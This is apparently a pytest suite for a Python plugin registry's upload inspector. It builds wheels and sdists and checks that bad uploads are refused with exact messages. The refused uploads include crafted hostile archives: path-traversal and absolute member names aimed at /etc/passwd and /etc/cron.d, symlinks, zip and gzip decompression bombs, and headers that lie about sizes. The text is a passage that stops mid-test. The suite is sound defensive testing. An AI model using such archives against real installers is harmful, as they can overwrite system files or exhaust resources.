"""inspect_upload: real wheels and sdists built here with zipfile/tarfile, one accepted of each,
and every way an upload is refused, each with the message its uploader reads and its reason."""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import io
import json
import pickle
import random
import struct
import tarfile
import time
import warnings
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from plugin_wheels import build_wheel
from tercel_registry._inspect import Inspection, Limits, UploadRejected, inspect_upload

NAME = "tercel-plugin-x"
WHEEL = "tercel_plugin_x-1.0.0-py3-none-any.whl"
DIST_INFO = "tercel_plugin_x-1.0.0.dist-info"
SDIST = "tercel_plugin_x-1.0.0.tar.gz"
ROOT = "tercel_plugin_x-1.0.0"
DATE = (1980, 1, 1, 0, 0, 0)

MANIFEST = {
    "manifestVersion": 1,
    "distribution": NAME,
    "version": "1.0.0",
    "module": "tercel_plugin_x.plugin",
    "hooks": ["tercel_task_types"],
    "types": [{"type": "io.tercel.x.Hello", "kind": "task", "title": "Say hello."}],
}
METADATA = """\
Metadata-Version: 2.3
Name: tercel-plugin-X
Version: 1.0.0
Summary: Says hello from tercel.
Keywords: tercel,plugin,hello
Author: Ada Lovelace
Author-email: Ada Lovelace <ada@example.org>
License-Expression: Apache-2.0
Project-URL: Homepage, https://example.org/x
Project-URL: Source, https://example.org/x/src
Requires-Python: >=3.11
Requires-Dist: tercel-plugin-sdk (>= 0.1, < 0.2)
Requires-Dist: httpx>=0.27; extra == "http"
Description-Content-Type: text/markdown

# tercel-plugin-x

Says *hello*.
"""
WHEEL_FILE = "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
ENTRY_POINTS = "[tercel.plugins]\nx = tercel_plugin_x.plugin\n"

Files = Mapping[str, "bytes | str | None"]


# ------------------------------------------------------------------------------- builders


def _bytes(value: bytes | str) -> bytes:
    return value.encode("utf-8") if isinstance(value, str) else value


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def zip_bytes(entries: Sequence[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of exactly these entries (duplicates allowed), deterministic."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name"
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, data in entries:
                info = zipfile.ZipInfo(name, date_time=DATE)
                info.compress_type = compression
                archive.writestr(info, data)
    return buffer.getvalue()


def wheel_files(changes: Files | None = None) -> dict[str, bytes]:
    """The valid plugin wheel's files, with `changes` (None removes a file)."""
    files: dict[str, bytes | str | None] = {
        "tercel_plugin_x/__init__.py": '"""tercel-plugin-x."""\n',
        "tercel_plugin_x/plugin.py": "from tercel_sdk import hookimpl\n",
        "tercel_plugin_x/tercel-manifest.json": json.dumps(MANIFEST, indent=1),
        f"{DIST_INFO}/METADATA": METADATA,
        f"{DIST_INFO}/WHEEL": WHEEL_FILE,
        f"{DIST_INFO}/entry_points.txt": ENTRY_POINTS,
        **(changes or {}),
    }
    return {k: _bytes(v) for k, v in files.items() if v is not None}


def make_wheel(changes: Files | None = None, *, record: bool = True,
               compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The valid plugin wheel (with `changes`), RECORD written for what it holds."""
    files = wheel_files(changes)
    record_path = f"{DIST_INFO}/RECORD"
    if record and record_path not in files:
        text = io.StringIO()
        writer = csv.writer(text, lineterminator="\n")
        for path, data in files.items():
            writer.writerow([path, _record_hash(data), len(data)])
        writer.writerow([record_path, "", ""])
        files[record_path] = text.getvalue().encode()
    return zip_bytes(list(files.items()), compression)


def make_sdist(changes: Files | None = None, extra: Sequence[tarfile.TarInfo] = (), *,
               root: str = ROOT) -> bytes:
    """The plugin's sdist (with `changes`), plus `extra` members (links, devices...)."""
    files: dict[str, bytes | str | None] = {
        f"{root}/PKG-INFO": METADATA,
        f"{root}/pyproject.toml": '[project]\nname = "tercel-plugin-X"\nversion = "1.0.0"\n',
        f"{root}/src/tercel_plugin_x/__init__.py": "",
        **(changes or {}),
    }
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as gz, tarfile.open(
        fileobj=gz, mode="w", format=tarfile.PAX_FORMAT
    ) as tar:
        for name, value in files.items():
            if value is None:
                continue
            data = _bytes(value)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for info in extra:
            tar.addfile(info)
    return buffer.getvalue()


def tar_member(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    return info


def patch(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    assert data.count(old) == count, (old, data.count(old))
    return data.replace(old, new)


def patch_at(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    buffer = bytearray(data)
    struct.pack_into(fmt, buffer, offset, value)
    return bytes(buffer)


def central(data: bytes, index: int = 0) -> int:
    """Where the `index`th central directory entry starts."""
    at = -1
    for _ in range(index + 1):
        at = data.index(b"PK\x01\x02", at + 1)
    return at


def refused(filename: str, data: bytes, **kwargs: object) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(filename, data, **kwargs)  # type: ignore[arg-type]
    return caught.value


# ------------------------------------------------------------------------------- accepted


def test_a_plugin_wheel_is_described_exactly() -> None:
    data = make_wheel()
    raw = METADATA.encode()
    assert inspect_upload(WHEEL, data) == Inspection(
        filename=WHEEL,
        kind="wheel",
        name=NAME,
        display_name="tercel-plugin-X",
        version="1.0.0",
        sha256=hashlib.sha256(data).hexdigest(),
        size=len(data),
        metadata=raw,
        metadata_sha256=hashlib.sha256(raw).hexdigest(),
        summary="Says hello from tercel.",
        description="# tercel-plugin-x\n\nSays *hello*.\n",
        description_content_type="text/markdown",
        keywords=("tercel", "plugin", "hello"),
        requires_python=">=3.11",
        requires_dist=("tercel-plugin-sdk (>= 0.1, < 0.2)", 'httpx>=0.27; extra == "http"'),
        sdk_requirement=">=0.1,<0.2",
        entry_point="tercel_plugin_x.plugin",
        manifest=MANIFEST,
        license="Apache-2.0",
        author="Ada Lovelace",
        home_page="https://example.org/x",
        sdk_compatible=None,
    )


def test_its_sdist_is_described_exactly() -> None:
    data = make_sdist()
    wheel = inspect_upload(WHEEL, make_wheel())
    assert inspect_upload(SDIST, data) == replace(
        wheel, filename=SDIST, kind="sdist", sha256=hashlib.sha256(data).hexdigest(),
        size=len(data), entry_point=None, manifest=None,
    )


def test_a_legacy_sdist_name_and_a_setup_py_are_accepted() -> None:
    root = "tercel-plugin-x-1.0.0"
    data = make_sdist({f"{root}/setup.py": "", f"{root}/pyproject.toml": None}, root=root)
    assert inspect_upload(f"{root}.tar.gz", data).name == NAME


def test_a_wheel_from_the_suite_builder_is_accepted(tmp_path: Path) -> None:
    path = build_wheel(
        tmp_path, NAME, "1.0.0",
        {"tercel_plugin_x/__init__.py": "", "tercel_plugin_x/plugin.py": "",
         "tercel_plugin_x/tercel-manifest.json": json.dumps(MANIFEST)},
        requires=["tercel-plugin-sdk>=0.1,<0.2"],
        entry_points={"tercel.plugins": {"x": "tercel_plugin_x.plugin:hooks"}},
        summary="Built by plugin_wheels.",
    )
    inspection = inspect_upload(path.name, path.read_bytes(), sdk_version="0.1.4")
    assert (inspection.summary, inspection.entry_point, inspection.sdk_requirement) == (
        "Built by plugin_wheels.", "tercel_plugin_x.plugin", ">=0.1,<0.2")
    assert inspection.sdk_compatible is True


def test_a_wheel_for_another_sdk_is_kept_not_refused() -> None:
    inspection = inspect_upload(WHEEL, make_wheel(), sdk_version="0.3.0")
    assert (inspection.sdk_requirement, inspection.sdk_compatible) == (">=0.1,<0.2", False)
    with pytest.raises(ValueError, match="sdk_version 'latest' is not a valid version"):
        inspect_upload(WHEEL, make_wheel(), sdk_version="latest")


def test_older_metadata_styles_are_read() -> None:
    """Description as a folded header, space-separated keywords, UNKNOWN fields, a Source URL,
    an unordered specifier, a package under .data/purelib."""
    metadata = (
        "Metadata-Version: 1.2\nName: tercel_plugin_x\nVersion: 1.0.0\nSummary: UNKNOWN\n"
        "Home-page: UNKNOWN\nLicense: MIT License\n        Permission is granted.\n"
        "Keywords: tercel plugin\nProject-URL: Source Code, https://example.org/src\n"
        "Requires-Dist: tercel-plugin-sdk<0.2,>=0.1\n"
        "Description: # Title\n        \n        Body line.\n"
    )
    package = {path: data for path, data in wheel_files().items() if path.startswith("tercel_plugin_x/")}
    moved: dict[str, bytes | str | None] = {path: None for path in package}
    moved.update({f"tercel_plugin_x-1.0.0.data/purelib/{path}": data for path, data in package.items()})
    inspection = inspect_upload(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": metadata, **moved}))
    assert (inspection.summary, inspection.home_page, inspection.keywords) == (
        None, "https://example.org/src", ("tercel", "plugin"))
    assert inspection.license == "MIT License\nPermission is granted."
    assert inspection.description == "# Title\n\nBody line."
    assert (inspection.display_name, inspection.sdk_requirement) == ("tercel_plugin_x", "<0.2,>=0.1")
    assert inspection.manifest == MANIFEST


def test_a_1_mb_wheel_inspects_in_milliseconds() -> None:
    rng = random.Random(7)
    words = ["def", "return", "self", "value", "task", "flow", "import", "class", "tercel", "=",
             "(", ")", ":", "if", "else", "for", "in", "None", "await", "yield"]
    modules = {
        f"tercel_plugin_x/gen/m{i}.py": " ".join(rng.choice(words) + str(rng.randrange(999))
                                                 for _ in range(4_000))
        for i in range(90)
    }
    data = make_wheel(modules)
    assert len(data) > 1_000_000
    inspect_upload(WHEEL, data)
    started = time.perf_counter()
    inspect_upload(WHEEL, data)
    assert time.perf_counter() - started < 0.5  # measured ~15 ms; loose for busy machines


# ------------------------------------------------------------------------------- file names


@pytest.mark.parametrize(
    ("filename", "says"),
    [
        ("tercel_plugin_x-1.0.0-py3-none-any.egg",
         "not a wheel (.whl) or an sdist (.tar.gz), the only files the registry accepts"),
        ("setup.exe", "not a wheel (.whl) or an sdist (.tar.gz)"),
        ("tercel-plugin-x", "not a wheel (.whl) or an sdist (.tar.gz)"),
        ("tercel_plugin_x-1.0.0.tar.bz2", "not a wheel (.whl) or an sdist (.tar.gz)"),
        ("tercel_plugin_x-1.0.0.zip", "zip sdists are not accepted; an sdist is a .tar.gz file (PEP 625)"),
        ("tercel_plugin_x-1.0.0.whl", "not a valid wheel file name (Invalid wheel filename (wrong number of parts)"),
        ("tercel_plugin_x-one-py3-none-any.whl", "not a valid wheel file name"),
        ("tercel_plugin_x.tar.gz", "not a valid sdist file name; an sdist is named {name}-{version}.tar.gz"),
        ("tercel_plugin_x-1.0.0.final.tar.gz", "its version '1.0.0.final' is not a valid PEP 440 version"),
        ("../tercel_plugin_x-1.0.0.tar.gz", "a file name holds no path separators"),
        ("..\\tercel_plugin_x-1.0.0.tar.gz", "a file name holds no path separators"),
        ("tercel_plugin_x-1.0.0\x00.tar.gz", "the file name holds a control character"),
        ("x" * 250 + "-1.0.tar.gz", "the file name is longer than 255 bytes"),
        ("", "an upload needs a file name"),
    ],
)
def test_a_bad_file_name_is_refused(filename: str, says: str) -> None:
    rejection = refused(filename, make_sdist())
    assert str(rejection).startswith(f"{filename!r}: {says}")
    assert rejection.reason == "filename"


def test_a_file_over_the_size_limit_is_refused_before_it_is_read() -> None:
    rejection = refused(WHEEL, b"\0" * 2049, limits=Limits(max_file_size=2048))
    assert str(rejection) == f"{WHEEL}: is 2,049 bytes; the registry accepts files up to 2 KiB"
    assert rejection.reason == "size"


# ------------------------------------------------------------------------------- zip archives


def test_a_wheel_that_is_not_a_zip_is_refused() -> None:
    rejection = refused(WHEEL, b"#!/bin/sh\necho hello\n")
    assert str(rejection) == f"{WHEEL}: is not a zip archive (a wheel is a zip file)"
    assert rejection.reason == "archive"


def test_a_truncated_wheel_is_refused() -> None:
    data = make_wheel()
    rejection = refused(WHEEL, data[: len(data) // 2])
    assert str(rejection) == (f"{WHEEL}: is a damaged zip archive (File is not a zip file); was "
                              "the upload cut short?")
    assert rejection.reason == "archive"


def test_a_member_with_a_bad_crc_is_refused() -> None:
    data = patch(make_wheel(compression=zipfile.ZIP_STORED), b"from tercel_sdk", b"from tercel_SDK")
    rejection = refused(WHEEL, data)
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/plugin.py' fails its CRC-32 "
                              "check (the file is damaged)")
    assert rejection.reason == "archive"


def test_damaged_deflate_data_is_refused() -> None:
    data = zip_bytes([("a.py", bytes(range(256)) * 64)])
    start = 30 + len("a.py")
    data = data[:start] + b"\xff" * 8 + data[start + 8 :]
    rejection = refused(WHEEL, data)
    assert str(rejection).startswith(f"{WHEEL}: member 'a.py' is damaged (Error -3 while decompressing")
    assert rejection.reason == "archive"


@pytest.mark.parametrize(
    ("member", "says"),
    [
        ("../../etc/passwd", "leaves the archive (path tricks are refused)"),
        ("tercel_plugin_x/../../x.pth", "leaves the archive (path tricks are refused)"),
        ("/etc/passwd", "is an absolute path (path tricks are refused)"),
        ("C:/Windows/x.dll", "is an absolute path (path tricks are refused)"),
        ("..\\..\\evil.py", "has a backslash in its name (path tricks are refused)"),
        ("tercel_plugin_x\\evil.py", "has a backslash in its name (path tricks are refused)"),
        ("tercel_plugin_x/./evil.py", "is not a plain relative path (path tricks are refused)"),
        ("tercel_plugin_x//evil.py", "is not a plain relative path (path tricks are refused)"),
        ("tercel_plugin_x/evil\n.py", "has a control character in its name (path tricks are refused)"),
    ],
)
def test_a_member_with_a_tricky_path_is_refused(member: str, says: str) -> None:
    rejection = refused(WHEEL, make_wheel({member: "x"}))
    assert str(rejection) == f"{WHEEL}: member {member!r} {says}"
    assert rejection.reason == "path"


def test_a_member_name_with_a_nul_byte_is_refused() -> None:
    """zipfile cuts such a name at the NUL; what the archive says is checked, not that."""
    data = patch(make_wheel({"tercel_plugin_x/evilApy": "x"}, record=False), b"evilApy", b"evil\0py", 2)
    rejection = refused(WHEEL, data)
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/evil\\x00py' has a control "
                              "character in its name (path tricks are refused)")
    assert rejection.reason == "path"


def test_a_duplicate_member_is_refused() -> None:
    files = wheel_files()
    data = zip_bytes([*files.items(), ("tercel_plugin_x/plugin.py", b"import os\n")])
    rejection = refused(WHEEL, data)
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/plugin.py' appears twice "
                              "(installers would disagree about which one counts)")
    assert rejection.reason == "path"


def test_too_many_members_are_refused() -> None:
    data = make_wheel()
    rejection = refused(WHEEL, data, limits=Limits(max_members=5))
    assert str(rejection) == f"{WHEEL}: holds more than 5 members, the limit"
    assert rejection.reason == "size"
    assert inspect_upload(WHEEL, data, limits=Limits(max_members=7)).name == NAME  # it has 7


def test_a_zip_bomb_member_is_refused() -> None:
    data = make_wheel({"tercel_plugin_x/zeros.bin": b"\0" * (4 << 20)})
    assert len(data) < 10_000
    rejection = refused(WHEEL, data, limits=Limits(max_ratio=50))
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("tercel_plugin_x/zeros.bin")
    assert str(rejection) == (
        f"{WHEEL}: member 'tercel_plugin_x/zeros.bin' expands {(4 << 20) / info.compress_size:,.0f}x "
        f"(4,194,304 bytes from {info.compress_size:,}); the limit is 50x (decompression bombs are "
        "refused)"
    )
    assert rejection.reason == "bomb"


def test_a_zip_bomb_over_the_uncompressed_limit_is_refused() -> None:
    data = make_wheel({"tercel_plugin_x/zeros.bin": b"\0" * (2 << 20)})
    rejection = refused(WHEEL, data, limits=Limits(max_uncompressed=2 << 20, max_ratio=1e9))
    assert str(rejection).startswith(f"{WHEEL}: members declare 2,")
    assert str(rejection).endswith(
        " bytes uncompressed; the limit is 2 MiB (decompression bombs are refused)")
    assert rejection.reason == "bomb"


def test_many_small_members_that_expand_in_total_are_refused() -> None:
    chunk = b"\0" * (600 << 10)
    data = make_wheel({f"tercel_plugin_x/z{i}.bin": chunk for i in range(4)})
    rejection = refused(WHEEL, data)
    assert str(rejection).startswith(f"{WHEEL}: expands ")
    assert "x in total (" in str(rejection)
    assert str(rejection).endswith("; the limit is 200x (decompression bombs are refused)")
    assert rejection.reason == "bomb"


def test_a_member_whose_header_lies_about_its_size_is_refused() -> None:
    """Declared 1,000 bytes in both headers (every size check passes), inflates to 4 MiB."""
    data = zip_bytes([("tercel_plugin_x/zeros.bin", b"\0" * (4 << 20))])
    data = patch_at(data, 22, "<I", 1000)  # the local header's size
    data = patch_at(data, central(data) + 24, "<I", 1000)  # the central directory's
    rejection = refused(WHEEL, data)
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/zeros.bin' inflates to more "
                              "than the 1,000 bytes its header declares (decompression bombs are "
                              "refused)")
    assert rejection.reason == "bomb"


def test_a_member_shorter_than_declared_is_refused() -> None:
    data = zip_bytes([("a.txt", b"hello")])
    data = patch_at(data, 22, "<I", 6)
    data = patch_at(data, central(data) + 24, "<I", 6)
    rejection = refused(WHEEL, data)
    assert str(rejection) == f"{WHEEL}: member 'a.txt' holds 5 bytes, not the 6 its header declares"
    assert rejection.reason == "archive"


def test_bytes_before_the_first_member_are_refused() -> None:
    rejection = refused(WHEEL, b"MZ" + b"\0" * 14 + make_wheel())
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/__init__.py' starts at byte 16, "
                              "not at the start of the archive: hidden or overlapping bytes are "
                              "refused")
    assert rejection.reason == "archive"


def test_a_member_hidden_between_members_is_refused() -> None:
    """Two central entries pointing at one local header: the overlapping-files zip bomb."""
    data = zip_bytes([("a.txt", b"hello"), ("b.txt", b"hello")])
    second = central(data, 1)
    data = patch_at(data, second + 42, "<I", 0)  # b.txt's local header offset -> a.txt's
    rejection = refused(WHEEL, data)
    assert "member 'b.txt' starts at byte 0, not where the previous one ends (" in str(rejection)
    assert rejection.reason == "archive"


def test_data_after_the_archive_is_refused() -> None:
    rejection = refused(WHEEL, make_wheel() + b"PK\x03\x04 a second archive")
    assert str(rejection) == (f"{WHEEL}: has data after the end of its zip archive (hidden data "
                              "is refused)")
    assert rejection.reason == "archive"


def test_a_local_header_that_disagrees_with_the_central_directory_is_refused() -> None:
    data = patch_at(make_wheel(), 14, "<I", 0xDEADBEEF)  # the first local header's CRC-32
    rejection = refused(WHEEL, data)
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/__init__.py': its local header "
                              "and the central directory disagree about its compression, sizes or "
                              "CRC (installers could read different bytes than the registry "
                              "checked)")
    assert rejection.reason == "archive"


def test_a_local_name_that_differs_is_refused() -> None:
    data = zip_bytes([("a.txt", b"hello")])
    data = data[:30] + b"b" + data[31:]
    rejection = refused(WHEEL, data)
    assert str(rejection) == (f"{WHEEL}: member 'a.txt' is called b'b.txt' in its local header "
                              "(installers could read different files than the registry checked)")


class _Unseekable(io.BytesIO):
    def seekable(self) -> bool:
        return False

    def seek(self, *args: object) -> int:
        raise OSError("unseekable")

    def tell(self) -> int:
        raise OSError("unseekable")


def test_a_streamed_zip_with_data_descriptors_is_refused() -> None:
    out = _Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"hello")
    rejection = refused(WHEEL, out.getvalue())
    assert str(rejection) == (f"{WHEEL}: member 'a.txt' has its sizes after its data (a streamed "
                              "zip); build the wheel with a standard build backend")
    assert rejection.reason == "archive"


def test_encrypted_and_exotic_members_are_refused() -> None:
    data = zip_bytes([("a.txt", b"hello")])
    data = patch_at(patch_at(data, 6, "<H", 1), central(data) + 8, "<H", 1)
    assert str(refused(WHEEL, data)) == f"{WHEEL}: member 'a.txt' is encrypted"
    rejection = refused(WHEEL, zip_bytes([("a.txt", b"hello")], zipfile.ZIP_BZIP2))
    assert str(rejection) == (f"{WHEEL}: member 'a.txt' uses zip compression method 12; a wheel "
                              "uses deflate or no compression")
    assert rejection.reason == "archive"


def test_a_nested_archive_is_not_opened() -> None:
    bomb = zip_bytes([("zeros.bin", b"\0" * (4 << 20))])
    assert inspect_upload(WHEEL, make_wheel({"tercel_plugin_x/data.zip": bomb})).name == NAME


# ------------------------------------------------------------------------------- sdists


def test_an_sdist_that_is_not_gzip_is_refused() -> None:
    rejection = refused(SDIST, b"BZh91AY&SY")
    assert str(rejection) == f"{SDIST}: is not a gzip'd tar archive (an sdist is a .tar.gz file)"
    assert rejection.reason == "archive"


def test_a_truncated_sdist_is_refused() -> None:
    data = make_sdist()
    rejection = refused(SDIST, data[:-12])
    assert str(rejection).startswith(f"{SDIST}: is a damaged gzip'd tar archive (")
    assert str(rejection).endswith("); was the upload cut short?")
    assert rejection.reason == "archive"
    assert refused(SDIST, gzip.compress(b"not a tar" * 100)).reason == "archive"


def test_a_gzip_bomb_sdist_is_refused() -> None:
    data = make_sdist({f"{ROOT}/zeros.bin": b"\0" * (8 << 20)})
    assert len(data) < 20_000
    rejection = refused(SDIST, data)
    assert str(rejection) == (f"{SDIST}: decompresses to more than 200x its {len(data):,} bytes "
                              "(decompression bombs are refused)")
    assert rejection.reason == "bomb"
    rejection = refused(SDIST, data, limits=Limits(max_uncompressed=1 << 20, max_ratio=1e9))
    assert str(rejection) == (f"{SDIST}: decompresses to more than 1 MiB, the limit "
                              "(decompression bombs are refused)")


@pytest.mark.parametrize(
    ("member", "says", "reason"),
    [
        (tar_member(f"{ROOT}/evil", tarfile.SYMTYPE, "/etc/passwd"),
         "is a symbolic link to '/etc/passwd' (links are refused)", "path"),
        (tar_member(f"{ROOT}/evil", tarfile.LNKTYPE, f"{ROOT}/PKG-INFO"),
         f"is a hard link to '{ROOT}/PKG-INFO' (links are refused)", "path"),
        (tar_member(f"{ROOT}/evil", tarfile.CHRTYPE),
         "is a device; an sdist holds only files and folders", "archive"),
        (tar_member(f"{ROOT}/evil", tarfile.BLKTYPE),
         "is a device; an sdist holds only files and folders", "archive"),
        (tar_member(f"{ROOT}/evil", tarfile.FIFOTYPE),
         "is a FIFO; an sdist holds only files and folders", "archive"),
        (tar_member("/etc/cron.d/evil", tarfile.REGTYPE),
         "is an absolute path (path tricks are refused)", "path"),
        (tar_member(f"{ROOT}/../../evil", tarfile.REGTYPE),
         "leaves the archive (path tricks are refused)", "path"),
        (tar_member(f"{ROOT}/PKG-INFO", tarfile.REGTYPE),
         "appears twice (installers would disagree about which one counts)", "path"),
    ],
)
def test_an_sdist_member_that_is_no_plain_file_is_refused(
    member: tarfile.TarInfo, says: str, reason: str
) -> None:
    rejection = refused(SDIST, make_sdist(extra=[member]))
    assert str(rejection) == f"{SDIST}: member {member.name!r} {says}"
    assert rejection.reason == reason


def test_an_sdist_with_too_many_members_is_refused() -> None:
    rejection = refused(SDIST, make_sdist(), limits=Limits(max_members=2))
    assert str(rejection) == f"{SDIST}: holds more than 2 members, the limit"
    assert rejection.reason == "size"


def test_an_sdist_without_one_root_folder_is_refused() -> None:
    rejection = refused(SDIST, make_sdist({"setup.py": "import os"}))
    assert str(rejection) == (f"{SDIST}: has 2 top-level entries ('setup.py', '{ROOT}'); an sdist "
                              "holds one folder, {name}-{version}")
    assert rejection.reason == "archive"
    rejection = refused(SDIST, make_sdist(root="tercel_plugin_y-1.0.0"))
    assert str(rejection) == (f"{SDIST}: the file name says tercel-plugin-x 1.0.0 but its folder is "
                              "'tercel_plugin_y-1.0.0'")
    assert rejection.reason == "mismatch"


def test_an_sdist_without_pkg_info_is_refused() -> None:
    rejection = refused(SDIST, make_sdist({f"{ROOT}/PKG-INFO": None}))
    assert str(rejection) == (f"{SDIST}: has no {ROOT}/PKG-INFO (its metadata); build the sdist "
                              "with a build backend (python -m build --sdist, uv build)")
    assert rejection.reason == "metadata"


def test_an_sdist_whose_pkg_info_names_another_release_is_refused() -> None:
    rejection = refused(SDIST, make_sdist({f"{ROOT}/PKG-INFO": METADATA.replace("1.0.0", "1.0.1")}))
    assert str(rejection) == (f"{SDIST}: the file name says tercel-plugin-x 1.0.0 but PKG-INFO says "
                              "tercel-plugin-X 1.0.1")
    assert rejection.reason == "mismatch"


def test_an_sdist_nothing_could_build_is_refused() -> None:
    rejection = refused(SDIST, make_sdist({f"{ROOT}/pyproject.toml": None}))
    assert str(rejection) == (f"{SDIST}: has neither {ROOT}/pyproject.toml nor {ROOT}/setup.py: "
                              "nothing could build it")
    assert rejection.reason == "archive"


def test_an_sdist_pkg_info_over_its_limit_is_refused() -> None:
    rejection = refused(SDIST, make_sdist(), limits=Limits(max_metadata=100))
    assert str(rejection) == f"{SDIST}: {ROOT}/PKG-INFO is {len(METADATA):,} bytes; the limit is 100 bytes"
    assert rejection.reason == "size"


def test_an_sdist_needs_no_sdk_requirement() -> None:
    metadata = METADATA.replace("Requires-Dist: tercel-plugin-sdk (>= 0.1, < 0.2)\n", "")
    inspection = inspect_upload(SDIST, make_sdist({f"{ROOT}/PKG-INFO": metadata}), sdk_version="0.1")
    assert (inspection.sdk_requirement, inspection.sdk_compatible) == (None, None)


# ------------------------------------------------------------------------------- metadata


@pytest.mark.parametrize("missing", ["METADATA", "WHEEL", "RECORD"])
def test_a_wheel_without_a_metadata_file_is_refused(missing: str) -> None:
    data = make_wheel({f"{DIST_INFO}/{missing}": None}, record=missing != "RECORD")
    rejection = refused(WHEEL, data)
    assert str(rejection) == (f"{WHEEL}: has no {DIST_INFO}/{missing}; build the wheel with a build "
                              "backend")
    assert rejection.reason == "metadata"


def test_a_wheel_without_a_dist_info_folder_is_refused() -> None:
    rejection = refused(WHEEL, zip_bytes([("tercel_plugin_x/__init__.py", b"")]))
    assert str(rejection) == (f"{WHEEL}: has no .dist-info folder (a wheel's metadata); build the "
                              "wheel with a build backend")
    assert rejection.reason == "metadata"


def test_two_dist_info_folders_are_refused() -> None:
    rejection = refused(WHEEL, make_wheel({"tercel_plugin_y-2.0.dist-info/METADATA": METADATA}))
    assert str(rejection) == (f"{WHEEL}: has 2 .dist-info folders ({DIST_INFO}, "
                              "tercel_plugin_y-2.0.dist-info); a wheel has exactly one")
    assert rejection.reason == "metadata"


def test_a_dist_info_folder_of_another_release_is_refused() -> None:
    files = {k.replace(DIST_INFO, "tercel_plugin_x-1.0.1.dist-info"): v for k, v in wheel_files().items()}
    rejection = refused(WHEEL, zip_bytes(list(files.items())))
    assert str(rejection) == (f"{WHEEL}: the file name says tercel-plugin-x 1.0.0 but its metadata "
                              "folder is 'tercel_plugin_x-1.0.1.dist-info' (expected "
                              f"'{DIST_INFO}')")
    assert rejection.reason == "mismatch"


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("Name: tercel-plugin-X", "Name: tercel-plugin-y", "tercel-plugin-y 1.0.0"),
        ("Version: 1.0.0", "Version: 1.0", "tercel-plugin-X 1.0"),
        ("Version: 1.0.0", "Version: 2.0.0", "tercel-plugin-X 2.0.0"),
    ],
)
def test_metadata_naming_another_release_is_refused(old: str, new: str, says: str) -> None:
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": METADATA.replace(old, new)}))
    assert str(rejection) == f"{WHEEL}: the file name says tercel-plugin-x 1.0.0 but METADATA says {says}"
    assert rejection.reason == "mismatch"


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("Version: 1.0.0", "Version: one", "has Version 'one', which is not a valid PEP 440 version"),
        ("Version: 1.0.0\n", "", "has no Version"),
        ("Name: tercel-plugin-X\n", "", "has no Name"),
        ("Metadata-Version: 2.3\n", "", "has no Metadata-Version"),
        ("Metadata-Version: 2.3", "Metadata-Version: 3.0",
         "has Metadata-Version '3.0'; installers read 1.x and 2.x"),
        ("Name: tercel-plugin-X", "Name: tercel-plugin-X\nName: tercel-plugin-y",
         "has 2 Name fields; it may have one"),
        ("Name: tercel-plugin-X", "Name: tercel plugin x", "has Name 'tercel plugin x', which is not a valid project name"),
        ("Requires-Python: >=3.11", "Requires-Python: three",
         "has an invalid Requires-Python 'three'"),
    ],
)
def test_invalid_metadata_is_refused(old: str, new: str, says: str) -> None:
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": METADATA.replace(old, new)}))
    assert str(rejection) == f"{WHEEL}: {DIST_INFO}/METADATA {says}"
    assert rejection.reason == "metadata"


def test_an_invalid_requirement_is_refused() -> None:
    metadata = METADATA.replace("httpx>=0.27", "httpx >>= 0.27")
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": metadata}))
    assert str(rejection).startswith(
        f"{WHEEL}: {DIST_INFO}/METADATA has an invalid Requires-Dist 'httpx >>= 0.27; extra == \"http\"' (")
    assert rejection.reason == "metadata"


def test_metadata_that_is_not_utf8_is_refused() -> None:
    metadata = METADATA.encode().replace(b"Ada Lovelace", "Adà Lovelace".encode("latin-1"), 1)
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": metadata}))
    at = metadata.index(b"\xe0")
    assert str(rejection) == f"{WHEEL}: {DIST_INFO}/METADATA is not UTF-8 (byte {at} is b'\\xe0')"
    assert rejection.reason == "metadata"


def test_metadata_over_its_limit_is_refused() -> None:
    rejection = refused(WHEEL, make_wheel(), limits=Limits(max_metadata=300))
    assert str(rejection) == f"{WHEEL}: {DIST_INFO}/METADATA is {len(METADATA):,} bytes; the limit is 300 bytes"
    assert rejection.reason == "size"


def test_an_unknown_wheel_version_is_refused() -> None:
    wheel = WHEEL_FILE.replace("Wheel-Version: 1.0", "Wheel-Version: 2.0")
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/WHEEL": wheel}))
    assert str(rejection) == (f"{WHEEL}: {DIST_INFO}/WHEEL says Wheel-Version '2.0'; installers "
                              "read version 1.x")
    assert rejection.reason == "metadata"


def test_a_member_missing_from_record_is_refused() -> None:
    files = wheel_files()
    data = make_wheel()
